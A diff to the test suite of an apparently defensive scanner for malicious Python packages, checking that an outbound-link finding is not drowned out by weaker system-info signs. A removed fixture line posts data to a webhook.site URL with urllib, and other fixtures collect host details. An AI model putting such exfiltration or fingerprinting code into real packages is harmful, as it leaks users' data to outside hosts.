@@ -83,13 +83,13 @@ async def test_a_download_that_is_run_by_an_install_script_is_found(name: str, k
 
 
 async def test_harm_is_not_diluted_by_many_lesser_signs(kennel: Kennel) -> None:
-    sends = "import urllib.request\nurllib.request.urlopen('https://webhook.site/abc', data=b'all')\n"
+    sends = "HOOK = 'https://webhook.site/abc'\n"
     asks = "import platform\nw{n} = platform.system(), platform.machine(), platform.node()\n"
     lesser = {f"tiny/x{n}.py": asks.format(n=n) for n in range(3)}
     assert await kennel.rules(wheel_of(lesser)) == {}
-    assert "threat-network-outbound-shady-links" in await kennel.rules(
-        wheel_of({"tiny/evil.py": sends, **lesser})
-    )
+    found = await kennel.rules(wheel_of({"tiny/evil.py": sends, **lesser}))
+    assert "threat-network-outbound-shady-links" in found
+    assert "threat-runtime-system-info" not in found
 
 
 async def test_one_bad_artefact_does_not_speak_for_the_others(kennel: Kennel) -> None:
